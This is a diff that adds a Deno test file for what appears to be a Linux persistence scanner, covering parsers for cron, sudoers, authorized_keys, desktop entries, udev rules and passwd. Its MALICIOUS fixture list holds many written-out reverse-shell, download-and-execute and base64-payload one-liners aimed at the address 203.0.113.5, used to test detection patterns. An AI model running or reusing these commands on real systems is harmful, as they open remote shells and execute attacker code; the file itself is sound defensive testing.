@@ -1,0 +1,285 @@
+import assert from "node:assert/strict";
+import { parseGroup, parsePasswd } from "../../src/scanners/persistence/accounts.ts";
+import { parseAuthorizedKeys } from "../../src/scanners/persistence/authorized_keys.ts";
+import {
+  cronPercent,
+  parseAnacrontab,
+  parseCrontab,
+  scriptLines,
+} from "../../src/scanners/persistence/cron.ts";
+import { parseDesktopEntry } from "../../src/scanners/persistence/desktop.ts";
+import { matchPatterns } from "../../src/scanners/persistence/patterns.ts";
+import { executedPaths } from "../../src/scanners/persistence/shell_words.ts";
+import { expandAliases, isUnrestricted, parseSudoers } from "../../src/scanners/persistence/sudoers.ts";
+import { parseUdevRules } from "../../src/scanners/persistence/udev.ts";
+import { ED25519 } from "./persistence_fixtures.ts";
+
+Deno.test("cron: system format keeps the user field, @keywords, % as stdin newline", () => {
+  const t = parseCrontab(
+    [
+      "SHELL=/bin/sh",
+      "# comment",
+      "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly",
+      "@reboot bob /home/bob/start.sh",
+      "0 0 * * mon-fri root echo a\\%b % input",
+      'MAILTO = "ops@example.org"',
+    ].join("\n"),
+    true,
+  );
+  assert.equal(t.bad, 0);
+  assert.deepEqual(t.env, { SHELL: "/bin/sh", MAILTO: "ops@example.org" });
+  assert.deepEqual(t.entries.map((e) => [e.line, e.schedule, e.user, e.command]), [
+    [3, "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly"],
+    [4, "@reboot", "bob", "/home/bob/start.sh"],
+    [5, "0 0 * * mon-fri", "root", "echo a%b \n input"],
+  ]);
+});
+
+Deno.test("cron: user format has no user field; garbage, truncated and empty input are counted, not thrown", () => {
+  const u = parseCrontab("*/5 * * * * /usr/bin/backup --quiet\n", false);
+  assert.deepEqual(u.entries.map((e) => [e.user, e.command]), [[undefined, "/usr/bin/backup --quiet"]]);
+  assert.deepEqual(parseCrontab("", true), { entries: [], env: {}, bad: 0 });
+  const g = parseCrontab("@sometimes root x\n* * *\n\u0000\u0001 garbage ]]\n1 2 3 4 5 root\n", true);
+  assert.equal(g.entries.length, 0);
+  assert.equal(g.bad, 4);
+  assert.equal(cronPercent("a\\%b%c"), "a%b\nc");
+});
+
+Deno.test("anacrontab: period delay id command", () => {
+  const t = parseAnacrontab(
+    "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 m cmd\nbad line\n",
+  );
+  assert.deepEqual(t.entries.map((e) => e.command), ["run-parts --report /etc/cron.daily", "cmd"]);
+  assert.equal(t.bad, 1);
+});
+
+Deno.test("scriptLines joins continuations and drops comments and blanks", () => {
+  assert.deepEqual(scriptLines("#!/bin/sh\n\nfoo \\\n  bar\n  # c\nbaz\ntrailing \\"), [
+    { line: 3, text: "foo    bar" },
+    { line: 6, text: "baz" },
+    { line: 7, text: "trailing" },
+  ]);
+});
+
+Deno.test("executedPaths: command words and interpreter scripts, not arguments or redirections", () => {
+  assert.deepEqual(
+    executedPaths("test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }"),
+    [],
+  );
+  assert.deepEqual(executedPaths("[ -x /usr/bin/tput ] && tput setaf 1 >&/dev/null"), []);
+  assert.deepEqual(executedPaths("/usr/lib/x/helper 2>&1 >/tmp/log | /usr/bin/logger"), [
+    "/usr/lib/x/helper",
+    "/usr/bin/logger",
+  ]);
+  assert.deepEqual(executedPaths("FOO=1 nohup /bin/bash /tmp/.x/run.sh &"), ["/bin/bash", "/tmp/.x/run.sh"]);
+  assert.deepEqual(executedPaths("sudo -n python3 /home/bob/x.py"), ["/home/bob/x.py"]);
+  assert.deepEqual(executedPaths("timeout 10 /var/tmp/miner -o pool"), ["/var/tmp/miner"]);
+  assert.deepEqual(executedPaths(". /etc/bash_completion"), ["/etc/bash_completion"]);
+  assert.deepEqual(executedPaths('echo "$(/dev/shm/x)"'), ["/dev/shm/x"]);
+  assert.deepEqual(executedPaths("find /tmp/ -mtime +7 -delete"), []);
+  assert.deepEqual(executedPaths(""), []);
+});
+
+const STOCK_LINES = [
+  "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
+  '[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"',
+  'test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"',
+  "start-stop-daemon --start --pidfile /dev/null --startas /usr/bin/mandb --oknodo --chuid man $iosched_idle -- --quiet",
+  "/usr/sbin/logrotate /etc/logrotate.conf",
+  "nc -zv db.internal 5432",
+  "rsync -e ssh -a /srv/ backup:/srv/",
+  "curl -fsS https://example.org/health | sha256sum",
+  'ENV{DM_COOKIE}=="?*", RUN+="/sbin/dmsetup udevcomplete $env{DM_COOKIE}"',
+  "/bin/sh -c 'echo 1 > /sys/class/x/power'",
+  "debian ALL=(ALL) NOPASSWD:ALL",
+];
+
+Deno.test("patterns: stock lines match nothing", () => {
+  for (const line of STOCK_LINES) assert.deepEqual(matchPatterns(line), [], line);
+});
+
+const MALICIOUS: [string, string][] = [
+  ["bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "reverse_shell"],
+  ["exec 5<>/dev/udp/203.0.113.5/53", "reverse_shell"],
+  ["nc -e /bin/sh 203.0.113.5 4444", "reverse_shell"],
+  ["/bin/sh -c 'nc -e /bin/sh 203.0.113.5 1'", "reverse_shell"],
+  ["/usr/bin/ncat 203.0.113.5 443 -e /bin/bash", "reverse_shell"],
+  ["socat TCP:203.0.113.5:443 EXEC:/bin/bash,pty,stderr", "reverse_shell"],
+  ["python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", "reverse_shell"],
+  ["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f", "reverse_shell"],
+  [
+    "python -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.5\",1));os.dup2(s.fileno(),0)'",
+    "reverse_shell",
+  ],
+  [
+    "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);exec(\"/bin/sh -i\")'",
+    "reverse_shell",
+  ],
+  ['php -r \'$s=fsockopen("203.0.113.5",1);exec("/bin/sh -i <&3 >&3");\'', "reverse_shell"],
+  ["openssl s_client -quiet -connect 203.0.113.5:443 | /bin/sh", "reverse_shell"],
+  ["curl -fsSL http://203.0.113.5/x.sh | sh", "download_exec"],
+  ["wget -q -O- http://203.0.113.5/i | sudo bash", "download_exec"],
+  ["bash <(curl -s http://203.0.113.5/x)", "download_exec"],
+  ['eval "$(wget -qO- http://203.0.113.5/x)"', "download_exec"],
+  ["cd /tmp && wget http://203.0.113.5/k -O k && chmod +x k && ./k", "download_exec"],
+  [
+    "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://203.0.113.5/p').read())\"",
+    "download_exec",
+  ],
+  ["echo ZWNobyBoaQ== | base64 -d | bash", "encoded_payload"],
+  ['eval "$(echo ZWNobyBoaQ== | base64 --decode)"', "encoded_payload"],
+  ["python -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"", "encoded_payload"],
+  [`echo ${"QUJD".repeat(40)} | sh`, "encoded_payload"],
+];
+
+Deno.test("patterns: each malicious line matches its kind", () => {
+  for (const [line, kind] of MALICIOUS) {
+    const hits = matchPatterns(line);
+    assert.ok(hits.some((h) => h.kind === kind), `${line} → ${JSON.stringify(hits)}`);
+  }
+});
+
+Deno.test("sudoers: rules, tags carried over, runas, aliases, includes, continuation, comments", () => {
+  const s = parseSudoers(
+    [
+      "Defaults\tenv_reset",
+      "Defaults:bob !authenticate",
+      "User_Alias OPS = alice, \\",
+      "  carol",
+      "Cmnd_Alias SHELLS = /bin/bash, /bin/sh",
+      "root\tALL=(ALL:ALL) ALL",
+      "%sudo\tALL=(ALL:ALL) ALL # admins",
+      "OPS ALL = (root) NOPASSWD: /usr/bin/systemctl restart nginx, SHELLS",
+      "#1001 ALL=(ALL) PASSWD: /bin/ls, NOPASSWD: /bin/cat",
+      "@includedir /etc/sudoers.d",
+      "#include /etc/sudoers.local",
+      "this is not a rule",
+    ].join("\n"),
+  );
+  assert.deepEqual(s.includes.map((i) => [i.dir, i.path]), [[true, "/etc/sudoers.d"], [
+    false,
+    "/etc/sudoers.local",
+  ]]);
+  assert.deepEqual(s.noAuthDefaults.map((d) => d.line), [2]);
+  assert.equal(s.bad, 1);
+  assert.deepEqual(s.rules.map((r) => r.users), [["root"], ["%sudo"], ["OPS"], ["#1001"]]);
+  const ops = s.rules[2];
+  assert.deepEqual(ops.commands.map((c) => [c.command, c.runas, c.nopasswd]), [
+    ["/usr/bin/systemctl restart nginx", "root", true],
+    ["SHELLS", "root", true],
+  ]);
+  assert.deepEqual(expandAliases(ops.users, s.aliases.get("User_Alias")), ["alice", "carol"]);
+  assert.deepEqual(expandAliases(["SHELLS"], s.aliases.get("Cmnd_Alias")), ["/bin/bash", "/bin/sh"]);
+  assert.deepEqual(s.rules[3].commands.map((c) => c.nopasswd), [false, true]);
+});
+
+Deno.test("sudoers: empty, truncated and garbage input", () => {
+  assert.deepEqual(parseSudoers("").rules, []);
+  const t = parseSudoers("bob ALL=(ALL) NOPASSWD: /bin/");
+  assert.deepEqual(t.rules[0].commands[0].command, "/bin/");
+  const g = parseSudoers("\u0000\u00ff ===\n(((\n=\n");
+  assert.equal(g.rules.length, 0);
+  assert.ok(g.bad >= 2);
+  const loop = parseSudoers("User_Alias A = B\nUser_Alias B = A\n");
+  assert.ok(expandAliases(["A"], loop.aliases.get("User_Alias")).length > 0);
+});
+
+Deno.test("sudoers: what counts as unrestricted", () => {
+  for (
+    const c of [
+      "ALL",
+      "/bin/bash",
+      "/usr/bin/vim /etc/hosts",
+      "/usr/bin/find",
+      "/usr/bin/less /var/log/syslog",
+      "/usr/bin/tar *",
+    ]
+  ) {
+    assert.ok(isUnrestricted(c), c);
+  }
+  for (
+    const c of [
+      "/usr/bin/systemctl restart nginx",
+      "/usr/bin/apt-get update",
+      "!/bin/sh",
+      "/usr/bin/find /srv -name x",
+    ]
+  ) {
+    assert.ok(!isUnrestricted(c), c);
+  }
+});
+
+Deno.test("authorized_keys: options with quotes, fingerprints like ssh-keygen, bad lines counted", () => {
+  const text = [
+    "# comment",
+    `ssh-ed25519 ${ED25519} alice@laptop`,
+    `command="/usr/bin/rrsync -ro \\"/srv\\"",no-pty,from="10.0.0.0/8" ssh-ed25519 ${ED25519} backup`,
+    "ssh-rsa not-base64!! x",
+    `ssh-rsa ${ED25519} wrong-type-in-blob`,
+    'command="unterminated ssh-ed25519 AAAA',
+    "",
+  ].join("\n");
+  const k = parseAuthorizedKeys(text);
+  assert.equal(k.bad, 3);
+  assert.equal(k.keys.length, 2);
+  assert.equal(k.keys[0].fingerprint, k.keys[1].fingerprint);
+  assert.match(k.keys[0].fingerprint, /^SHA256:[A-Za-z0-9+/]{43}$/);
+  assert.deepEqual(k.keys[1].options, [["command", '/usr/bin/rrsync -ro "/srv"'], ["no-pty", ""], [
+    "from",
+    "10.0.0.0/8",
+  ]]);
+  assert.deepEqual(parseAuthorizedKeys(""), { keys: [], bad: 0 });
+});
+
+Deno.test("authorized_keys: the fingerprint is the one ssh-keygen -lf prints", () => {
+  // Known answer taken from `ssh-keygen -lf` (OpenSSH 9.2) for this key.
+  assert.equal(
+    parseAuthorizedKeys(`ssh-ed25519 ${ED25519} x`).keys[0].fingerprint,
+    "SHA256:3Itk2k+36n1W8ICjBqEATNlzg1G1411xJHSKL6U/gGc",
+  );
+});
+
+Deno.test("desktop entries: Exec without field codes, Hidden and GNOME switches", () => {
+  const d = parseDesktopEntry(
+    "[Desktop Entry]\nName=x\nExec=/usr/bin/foo --file %f %%\nHidden=false\n[Other]\nExec=/tmp/no\n",
+  );
+  assert.deepEqual(d, { exec: "/usr/bin/foo --file  %", execLine: 3, disabled: false });
+  assert.equal(
+    parseDesktopEntry("[Desktop Entry]\nExec=x\nX-GNOME-Autostart-enabled=false\n").disabled,
+    true,
+  );
+  assert.deepEqual(parseDesktopEntry("garbage\n\u0000"), { execLine: 0, disabled: false });
+});
+
+Deno.test("udev: RUN, PROGRAM and IMPORT{program}; builtins skipped; relative names resolved", () => {
+  const p = parseUdevRules(
+    [
+      'TAG=="uaccess", ENV{MAJOR}!="", RUN{builtin}+="uaccess"',
+      'KERNEL=="rtc0", RUN+="/usr/lib/udev/hwclock-set $root/$name"',
+      'SUBSYSTEM=="block", IMPORT{program}="ata_id --export $devnode", \\',
+      '  PROGRAM=="scsi_id -g"',
+      'ACTION=="add", RUN+="/bin/sh -c \\"echo 1\\""',
+      '# RUN+="/tmp/commented"',
+      'RUN+=""',
+    ].join("\n"),
+  );
+  assert.deepEqual(p.map((x) => [x.line, x.key, x.command]), [
+    [2, "RUN", "/usr/lib/udev/hwclock-set $root/$name"],
+    [3, "IMPORT{program}", "/usr/lib/udev/ata_id --export $devnode"],
+    [3, "PROGRAM", "/usr/lib/udev/scsi_id -g"],
+    [5, "RUN", '/bin/sh -c "echo 1"'],
+  ]);
+  assert.deepEqual(parseUdevRules(""), []);
+});
+
+Deno.test("passwd and group parsers skip malformed lines", () => {
+  const p = parsePasswd(
+    "root:x:0:0:root:/root:/bin/bash\nbad\nx:x:notanumber:0::/:/bin/sh\n\nbob:x:1000:1000::/home/bob:/bin/zsh\n",
+  );
+  assert.deepEqual(p.accounts.map((a) => a.name), ["root", "bob"]);
+  assert.equal(p.bad, 2);
+  assert.deepEqual([...parseGroup("sudo:x:27:bob, alice\nbroken\n").entries()], [["sudo", {
+    gid: 27,
+    members: ["bob", "alice"],
+  }]]);
+});
